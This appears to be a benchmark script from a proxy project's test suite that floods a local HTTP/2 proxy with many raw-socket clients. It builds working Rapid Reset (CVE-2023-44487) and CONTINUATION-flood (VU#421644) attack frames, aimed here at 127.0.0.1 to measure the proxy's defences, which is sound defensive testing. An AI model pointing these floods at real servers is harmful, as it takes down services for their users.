"""Floods of HTTP/2 frames as a process of its own: clients that send as fast as they can, and reconnect when closed,
after a round trip.

Each client has a source address of its own, since floods are counted by address. Raw sockets, no code shared with the
proxy under test. On SIGTERM it writes how often connections ended in each way.

    python -m benchmarks.slow_clients.flood_client PORT KIND COUNT REPORT

KIND is resets or continuation.
"""

from __future__ import annotations

import json
import os
import select
import signal
import socket
import sys
import time
from collections import Counter, deque
from pathlib import Path

BEGINNING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0"
HEAD = b"\x82\x86\x84\x41\x01x"
"""GET / with the authority x (RFC 7541)."""

FIELDS = b"\x40\x01a\x01b" * 4
CANCEL = b"\0\0\0\x08"
PIECE = 65_536
ROUND_TRIP = 0.01
"""Seconds from the end of a connection to the next one."""


def frame(kind: int, payload: bytes, stream: int, flags: int = 0) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def resets() -> bytes:
    """Rapid Reset (CVE-2023-44487): requests that are reset at once."""
    return b"".join(frame(1, HEAD, one, 5) + frame(3, CANCEL, one) for one in range(1, 100_000, 2))


def continuation() -> bytes:
    """A head without end (VU#421644)."""
    return frame(1, HEAD, 1, 1) + frame(9, FIELDS, 1) * 50_000


FLOODS = {"resets": resets, "continuation": continuation}


class FloodClient:
    """A client with the source address 127.0.1.`number`; it connects when it is made."""

    def __init__(self, port: int, number: int, data: memoryview) -> None:
        self._sent, self._data = 0, data
        self.sock = socket.socket()
        self.sock.setblocking(False)
        self.sock.bind((f"127.0.1.{number}", 0))
        self.sock.connect_ex(("127.0.0.1", port))

    def go_on(self, events: int) -> str:
        """Send, or read what the proxy says; returns how the connection ended, empty while it is open."""
        try:
            if events & select.EPOLLIN and not self.sock.recv(PIECE):
                return "closed"
            if events & (select.EPOLLERR | select.EPOLLHUP):
                return "reset"
            if events & select.EPOLLOUT:
                self._sent += self.sock.send(self._data[self._sent : self._sent + PIECE])
        except BlockingIOError:
            return ""
        except OSError:
            return "reset"
        return "" if self._sent < len(self._data) else "all sent"


def run_floods(port: int, kind: str, count: int, report: Path) -> None:
    """Flood until SIGTERM, then write `report`.

    The kernel runs this process only while no other wants the core, and takes it away at once: a client's time is not
    the proxy's, and with a low priority alone it would keep the core for milliseconds after the proxy wakes.
    """
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    endings: Counter[str] = Counter()
    is_over: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, frame: is_over.append(number))
    data = memoryview(BEGINNING + FLOODS[kind]())
    clients: dict[int, tuple[FloodClient, int]] = {}
    waiting = deque((0.0, number) for number in range(1, count + 1))
    with select.epoll() as epoll:
        print(f"flood ready on http://127.0.0.1:{port}", flush=True)
        while not is_over:
            while waiting and waiting[0][0] <= time.monotonic():
                _, number = waiting.popleft()
                client = FloodClient(port, number, data)
                clients[client.sock.fileno()] = client, number
                epoll.register(client.sock.fileno(), select.EPOLLIN | select.EPOLLOUT)
            for descriptor, events in epoll.poll(ROUND_TRIP / 10):
                client, number = clients[descriptor]
                if ended := client.go_on(events):
                    endings[ended] += 1
                    del clients[descriptor]
                    client.sock.close()
                    waiting.append((time.monotonic() + ROUND_TRIP, number))
    report.write_text(json.dumps(endings), encoding="utf-8")


if __name__ == "__main__":
    run_floods(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), Path(sys.argv[4]))
